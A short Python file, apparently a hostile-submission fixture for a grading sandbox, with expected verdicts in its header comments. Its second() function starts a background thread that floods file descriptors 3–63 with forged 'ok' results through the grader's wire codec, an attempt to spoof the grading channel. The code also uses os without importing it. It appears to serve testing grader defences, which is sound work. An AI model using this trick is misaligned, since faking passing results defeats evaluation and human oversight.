# verdict: crashed failed timeout
# threats: 15
import threading

from grader.runtime.wire import codec


def _flood():
    message = codec.encode({"id": 2, "ok": True})
    while True:
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, len(message).to_bytes(4, "big") + message)
            except OSError:
                pass


def second(x):
    threading.Thread(target=_flood, daemon=True).start()
    return x
